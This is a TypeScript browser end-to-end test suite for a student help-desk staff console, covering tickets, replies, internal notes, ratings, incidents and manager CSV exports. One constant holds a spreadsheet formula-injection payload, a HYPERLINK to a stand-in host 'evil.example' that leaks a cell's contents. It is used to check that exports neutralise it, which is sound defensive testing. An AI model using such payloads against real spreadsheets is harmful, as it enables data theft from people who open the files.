// Staff journeys in real Chromium against the built console served by a real API: work a ticket
// from the queue to the student's rating (given in the built portal) on the dashboard, and settle
// an incident in one move.
import { TicketStatus } from '@studentdesk/domain';
import { createCategory, JOURNEY_PEOPLE, PASSWORD } from '@studentdesk/testing';
import { watchSubscriptions } from '@studentdesk/testing/browser';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Page } from 'playwright-core';
import { startStack, type Person, type Stack } from './stack.js';

const TICKET = /* GraphQL */ `
  query Ticket($id: ID!) {
    ticket(id: $id) {
      status
      messages(first: 50) {
        edges {
          node {
            body
            internal
          }
        }
      }
    }
  }
`;

/** A category name a spreadsheet would run: it must reach a manager's CSV as text. */
const FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Printing")';

describe('the staff console', () => {
  let stack: Stack;
  const report = (student: Person, category: string, title: string, description: string) =>
    stack.report(student, category, title, description, { expectedResolutionHours: 24 });
  const expectAccessible = async (page: Page, name: string) => {
    expect(await stack.accessibilityProblems(page), `axe on ${name}`).toEqual([]);
  };

  beforeAll(async () => {
    stack = await startStack(async (prisma) => {
      const it = await prisma.department.findFirstOrThrow({ where: { name: 'IT' } });
      await createCategory(prisma, it.id, FORMULA_NAME);
    });
  });
  afterAll(() => stack?.stop());

  it('keeps students out', async () => {
    const context = await stack.browser.newContext();
    const page = await context.newPage();
    await page.goto(`${stack.origin}/console/`);
    await page.getByLabel('Email').fill(JOURNEY_PEOPLE.amara.email);
    await page.getByLabel('Password').fill(PASSWORD);
    await page.getByRole('button', { name: 'Sign in' }).click();
    await page.getByRole('alert').filter({ hasText: 'The console is for staff' }).waitFor();
    await expectAccessible(page, 'sign-in');
    await stack.screenshot(page, '01-sign-in-student-refused');
    await context.close();
  });

  it('takes a ticket from the queue, replies with a canned response, notes, resolves with a prediction, and sees the rating land', async () => {
    const lms = await report(
      'amara',
      'Login & accounts',
      'Cannot sign in to the LMS',
      'It says my password expired and the reset link fails.',
    );
    const page = await stack.signedInPage('staff');
    // The bell subscribes as soon as the console opens: watch the sockets of a fresh load.
    const subscriptions = watchSubscriptions(page);
    await page.reload();
    await page.getByRole('navigation', { name: 'Main' }).waitFor();
    await expectAccessible(page, 'home');

    await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Queue' }).click();
    await page.getByRole('link', { name: 'Unassigned' }).click();
    await page.getByRole('link', { name: /Cannot sign in to the LMS/ }).waitFor();
    // A ticket reported while the queue is open appears without a reload.
    await subscriptions.untilSent('QueueChanged');
    await report('ben', 'Login & accounts', 'Locked out after three tries', 'The portal locked my account.');
    await page.getByRole('link', { name: /Locked out after three tries/ }).waitFor({ timeout: 10_000 });
    await expectAccessible(page, 'queue');
    await stack.screenshot(page, '02-queue-unassigned-live');

    await page.getByRole('link', { name: /Cannot sign in to the LMS/ }).click();
    await page.getByRole('heading', { name: /Cannot sign in to the LMS/ }).waitFor();
    // The student panel greets by name and knows who this is.
    const panel = page.getByRole('complementary');
    await panel.getByRole('heading', { name: 'Amara Okafor' }).waitFor();
    await panel.getByText('S2024-0117').waitFor();

    await page.keyboard.press('a');
    await page.getByRole('status').filter({ hasText: 'Assigned to you.' }).waitFor();
    await page.keyboard.press('r');
    await page.getByLabel('Canned response').selectOption({ label: 'Password reset done' });
    await expect.poll(() => page.getByLabel('Reply to Amara Okafor').inputValue()).toContain('Hi Amara,');
    expect(await page.getByLabel('Reply to Amara Okafor').inputValue()).toContain('Jonas, IT');
    await page.getByRole('button', { name: 'Send reply' }).click();
    await page.getByRole('status').filter({ hasText: 'Reply sent.' }).waitFor();

    await page.keyboard.press('n');
    await page.getByLabel('Internal note, visible to staff only').fill('Account was locked in the directory; unlocked it.');
    await page.getByRole('button', { name: 'Add note' }).click();
    await page.getByText('Account was locked in the directory; unlocked it.').waitFor();
    const note = page.getByRole('listitem').filter({ hasText: 'Account was locked in the directory' });
    expect(await note.getAttribute('class')).toContain('internal');
    await note.getByText('Internal note').waitFor();
    await expectAccessible(page, 'ticket');
    await stack.screenshot(page, '03-ticket-reply-and-note');

    // The student sees the reply, never the note.
    const seen = await stack.gqlAs('amara', TICKET, { id: lms.id });
    expect(seen.ticket.messages.edges.map((edge: any) => edge.node.body).join('\n')).toContain('Hi Amara,');
    expect(JSON.stringify(seen)).not.toContain('unlocked it');

    await page.keyboard.press('e');
    const dialog = page.getByRole('dialog', { name: /Resolve/ });
    await dialog.getByLabel(/What was done/).fill('Your password is reset and the account unlocked.');
    await dialog.getByLabel('4').check();
    await stack.screenshot(page, '04-resolve-with-prediction');
    await dialog.getByRole('button', { name: 'Resolve' }).click();
    await page.getByRole('status').filter({ hasText: 'Resolved.' }).waitFor();
    expect((await stack.gqlAs('staff', TICKET, { id: lms.id })).ticket.status).toBe(TicketStatus.RESOLVED);

    // The student rates it in the portal, signed in in a browser of her own; the open ticket shows it live.
    const portal = await stack.signedInPage('amara', 'portal');
    await portal
      .getByRole('main')
      .getByRole('link', { name: `${lms.number}: Cannot sign in to the LMS`, exact: true })
      .click();
    const rating = portal.getByRole('form', { name: 'How did we do?' });
    await rating.getByLabel('5 – Very satisfied').check();
    await rating.getByLabel('Better than I expected').check();
    await rating.getByLabel('Anything to add? (optional)').fill('Jonas fixed it in minutes, thank you!');
    await expectAccessible(portal, 'portal rating form');
    await stack.screenshot(portal, '05-portal-rating');
    await rating.getByRole('button', { name: 'Send rating' }).click();
    await portal
      .getByRole('region', { name: 'Your rating' })
      .getByText('5 out of 5. Thank you: “Jonas fixed it in minutes, thank you!”')
      .waitFor();
    await stack.screenshot(portal, '06-portal-rated');
    await portal.context().close();
    await page
      .getByRole('listitem')
      .filter({ hasText: 'Amara Okafor rated 5/5 · expectation exceeded · predicted 4' })
      .getByText('“Jonas fixed it in minutes, thank you!”')
      .waitFor();

    // The home page shows it.
    await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Home' }).click();
    const mine = page.getByRole('region', { name: 'My CSAT' });
    await mine.getByText('100%').waitFor();
    await mine.getByText(/1 rating\b/).waitFor();
    await page.getByRole('region', { name: 'Praise from students' }).getByText('“Jonas fixed it in minutes, thank you!”').waitFor();
    await expectAccessible(page, 'home with rating');
    await stack.screenshot(page, '07-home-rating-landed');

    await page.keyboard.press('?');
    await page.getByRole('dialog', { name: 'Keyboard shortcuts' }).getByText('Assign to me').waitFor();
    await stack.screenshot(page, '08-shortcuts');
    await page.context().close();
  });

  it('makes an incident of two tickets and resolves both with one update', async () => {
    const first = await report('ben', 'Wi-Fi & network', 'Library Wi-Fi keeps dropping', 'Every few minutes on the second floor.');
    const second = await report('chloe', 'Wi-Fi & network', 'No Wi-Fi in the library', 'Cannot connect at all.');
    const page = await stack.signedInPage('staff');
    await page.goto(`${stack.origin}/console/queue/open`);
    await page.getByLabel(`Select ${first.number}`).check();
    await page.getByLabel(`Select ${second.number}`).check();
    await page.getByRole('button', { name: 'Create incident from selected' }).click();
    await page.getByLabel('Title students will recognise').fill('Library Wi-Fi outage');
    await page.getByLabel(/What is happening/).fill('The library access points are down; use the study hall meanwhile.');
    await page.getByRole('button', { name: 'Create incident', exact: true }).click();
    await page.getByRole('heading', { name: 'Library Wi-Fi outage' }).waitFor();
    await page.getByText('2 linked tickets').waitFor();

    await page.getByLabel(/Update for students/).fill('Engineers are replacing the access points now.');
    await page.getByLabel('New status').selectOption('IDENTIFIED');
    await page.getByRole('button', { name: 'Post update' }).click();
    await page.getByRole('status').filter({ hasText: 'Update posted' }).waitFor();
    for (const ticket of [first, second]) {
      const seen = await stack.gqlAs(ticket === first ? 'ben' : 'chloe', TICKET, { id: ticket.id });
      expect(seen.ticket.messages.edges.map((edge: any) => edge.node.body)).toContain('Engineers are replacing the access points now.');
    }
    const banner = await stack.gqlAs('ben', '{ activeIncidents { title status } }');
    expect(banner.activeIncidents).toEqual([{ title: 'Library Wi-Fi outage', status: 'IDENTIFIED' }]);
    await expectAccessible(page, 'incident');
    await stack.screenshot(page, '09-incident-update');

    await page.getByLabel(/What was done/).fill('New access points are in; Wi-Fi is back across the library.');
    // As for one ticket, the prediction is asked, so these resolutions count in the perception gap.
    await page.getByRole('group', { name: 'How do you think the students will rate this?' }).getByLabel('4').check();
    await page.getByRole('button', { name: 'Resolve incident and its tickets' }).click();
    await page.getByRole('status').filter({ hasText: 'Incident resolved' }).waitFor();
    await expect.poll(async () => page.getByRole('row').filter({ hasText: 'Resolved' }).count()).toBe(2);
    for (const ticket of [first, second]) {
      const resolved = (await stack.gqlAs('staff', `query($id: ID!) { ticket(id: $id) { status predictedScore } }`, { id: ticket.id }))
        .ticket;
      expect(resolved).toEqual({ status: TicketStatus.RESOLVED, predictedScore: 4 });
    }
    expect((await stack.gqlAs('ben', '{ activeIncidents { title } }')).activeIncidents).toEqual([]);
    await stack.screenshot(page, '10-incident-resolved');
    await page.context().close();
  });

  it('declares an incident from the Incidents page, offering only what the person may choose', async () => {
    const page = await stack.signedInPage('staff');
    await page.goto(`${stack.origin}/console/incidents`);
    await page.getByRole('button', { name: 'Declare incident' }).click();
    const form = page.getByRole('form', { name: 'Declare an incident' });
    await form.getByRole('option', { name: 'Login & accounts' }).waitFor({ state: 'attached' });
    // Jonas works in IT: Financial Aid's categories are not offered, nor a department to choose.
    const categories = await form
      .getByLabel(/Category it affects/)
      .locator('option')
      .allTextContents();
    expect(categories).toEqual(expect.arrayContaining(['None', 'Login & accounts', 'Wi-Fi & network']));
    expect(categories).not.toContain('Fees & invoices');
    await expect.poll(() => form.getByLabel('Department that owns it').count()).toBe(0);
    await form.getByLabel('Title students will recognise').fill('Printing from laptops fails');
    await form.getByLabel(/What is happening/).fill('The print server rejects laptop jobs; library PCs still print.');
    await form.getByLabel(/Category it affects/).selectOption({ label: 'Login & accounts' });
    await form.getByRole('button', { name: 'Declare incident' }).click();
    await page.getByRole('heading', { level: 1, name: 'Printing from laptops fails' }).waitFor();
    await page.getByRole('form', { name: 'Post an update' }).waitFor();
    const banner = await stack.gqlAs('ben', '{ activeIncidents { title category { name } } }');
    expect(banner.activeIncidents).toContainEqual({ title: 'Printing from laptops fails', category: { name: 'Login & accounts' } });
    await page.context().close();
  });

  it('shows managers the numbers as charts, tables and CSV', async () => {
    const page = await stack.signedInPage('manager');
    await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Insights' }).click();
    const csat = page.getByRole('region', { name: 'CSAT by department by week' });
    await csat.getByRole('img', { name: /CSAT by department by week \(chart/ }).waitFor();
    await page.getByRole('region', { name: 'Backlog age' }).waitFor();
    // Every bar is named and both axes say what they count.
    const byCategory = page.getByRole('region', { name: 'Volume by category' });
    for (const text of ['Wi-Fi & network', 'Login & accounts', 'Category', 'Tickets reported']) {
      await byCategory.locator('svg text', { hasText: text }).first().waitFor();
    }
    // Workload: Jonas holds the open tickets assigned to him in this journey.
    await page.getByRole('region', { name: 'Workload by person' }).getByRole('cell', { name: 'Jonas Weber' }).waitFor();
    await expectAccessible(page, 'insights');
    await stack.screenshot(page, '11-insights-charts');

    await csat.getByRole('button', { name: 'Show table' }).click();
    await csat.getByRole('cell', { name: 'IT' }).waitFor();
    await csat.getByRole('cell', { name: '100' }).waitFor();
    const download = page.waitForEvent('download');
    await csat.getByRole('button', { name: 'Export CSV' }).click();
    const file = await download;
    // Named by chart, scope and period, so a folder of exports stays readable.
    expect(file.suggestedFilename()).toMatch(/^csat-by-department-by-week_every-department_\d{4}-\d{2}-\d{2}-to-\d{4}-\d{2}-\d{2}\.csv$/);
    const csv = await streamText(await file.createReadStream());
    expect(csv.split('\r\n')[0]).toBe('Week,Department,CSAT %,Ratings');
    expect(csv).toContain(',IT,100,1');
    await stack.screenshot(page, '12-insights-table');

    // A name that would be a formula is exported as text.
    await report('chloe', FORMULA_NAME, 'Printer eats pages', 'On the second floor.');
    await page.reload();
    const volume = page.getByRole('region', { name: 'Volume by category' });
    await volume.getByRole('button', { name: 'Show table' }).click();
    await volume.getByRole('cell', { name: FORMULA_NAME }).waitFor();
    const volumeDownload = page.waitForEvent('download');
    await volume.getByRole('button', { name: 'Export CSV' }).click();
    const volumeCsv = await streamText(await (await volumeDownload).createReadStream());
    expect(volumeCsv).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Printing"")",1\r\n`);
    expect(volumeCsv).not.toMatch(/(^|\r\n)"?=HYPERLINK/);

    for (const [link, name] of [
      ['Leaderboard', 'leaderboard'],
      ['Suggestions', 'suggestions'],
      ['Incidents', 'incidents'],
      ['Canned responses', 'canned-responses'],
    ] as const) {
      await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: link }).click();
      await page.getByRole('heading', { level: 1, name: link }).waitFor();
      await expectAccessible(page, name);
      await stack.screenshot(page, `13-${name}`);
    }
    await page.context().close();
  });
});

async function streamText(stream: NodeJS.ReadableStream): Promise<string> {
  const chunks: Buffer[] = [];
  for await (const chunk of stream) chunks.push(Buffer.from(chunk as Buffer));
  return Buffer.concat(chunks).toString('utf8');
}
